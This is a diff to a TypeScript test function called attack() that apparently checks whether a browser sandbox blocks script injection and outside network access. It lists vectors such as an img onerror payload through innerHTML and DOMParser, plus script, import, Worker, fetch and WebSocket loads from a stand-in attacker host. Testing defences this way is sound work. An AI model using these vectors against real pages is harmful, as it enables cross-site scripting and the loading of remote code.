@@ -15,12 +15,12 @@ export async function attack(): Promise<void> {
   const timed = (name: string) => run(name) as unknown as () => void;
   const run = (name: string) => `(globalThis.ran ??= []).push('${name}')`;
   const added = <T extends HTMLElement>(element: T) => document.body.appendChild(element);
-  const load = (element: HTMLElement) =>
+  const first = (target: EventTarget, good: string) =>
     new Promise((resolve, reject) => {
-      element.addEventListener('load', resolve);
-      element.addEventListener('error', reject);
-      document.body.append(element);
+      target.addEventListener(good, resolve);
+      target.addEventListener('error', reject);
     });
+  const load = (element: HTMLElement) => first(added(element), 'load');
   const make = (tag: string, attributes: object) => Object.assign(document.createElement(tag), attributes);
   const image = `<img src="/nowhere.png" onerror="${run('markup')}">`;
   const attempts: Record<string, () => unknown> = {
@@ -35,26 +35,22 @@ export async function attack(): Promise<void> {
     innerHTML: () => (added(document.createElement('div')).innerHTML = image),
     outerHTML: () => (added(document.createElement('div')).outerHTML = image),
     insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', image),
-    'document.write': () => document.write('<p>'),
     'a parsed document': () => new DOMParser().parseFromString(image, 'text/html'),
     'a fragment': () => document.createRange().createContextualFragment(image),
     'the text of a script': () => added(make('script', { text: run('text') })),
     'the source of a script': () => load(make('script', { src: `${attacker}/x.js` })),
     'an import': () => import(`${attacker}/x.js`),
     'a frame with a document': () => added(make('iframe', { srcdoc: `<script>${run('srcdoc')}</script>` })),
-    'a worker': () => new Worker(`${attacker}/x.js`),
+    'a worker': () => first(new Worker(`${attacker}/x.js`), 'message'),
     'a worker of text': () => new Worker(URL.createObjectURL(new Blob([run('worker')]))),
     'a service worker': () => navigator.serviceWorker.register('/x.js'),
     'a Trusted Types policy': () => here.trustedTypes.createPolicy('default', {}),
     fetch: () => fetch(attacker, { mode: 'no-cors' }),
     'a picture': () => load(make('img', { src: `${attacker}/x.png` })),
     'a style sheet': () => load(make('link', { rel: 'stylesheet', href: `${attacker}/x.css` })),
-    'a WebSocket': () =>
-      new Promise((resolve, reject) => {
-        const socket = new WebSocket(attacker.replace('http', 'ws'));
-        socket.addEventListener('open', resolve);
-        socket.addEventListener('error', reject);
-      }),
+    'a WebSocket': () => first(new WebSocket(attacker.replace('http', 'ws')), 'open'),
+    // The last: it begins a new document.
+    'document.write': () => document.write('<p>'),
   };
   const outcomes: Record<string, string> = {};
   for (const [name, attempt] of Object.entries(attempts)) {
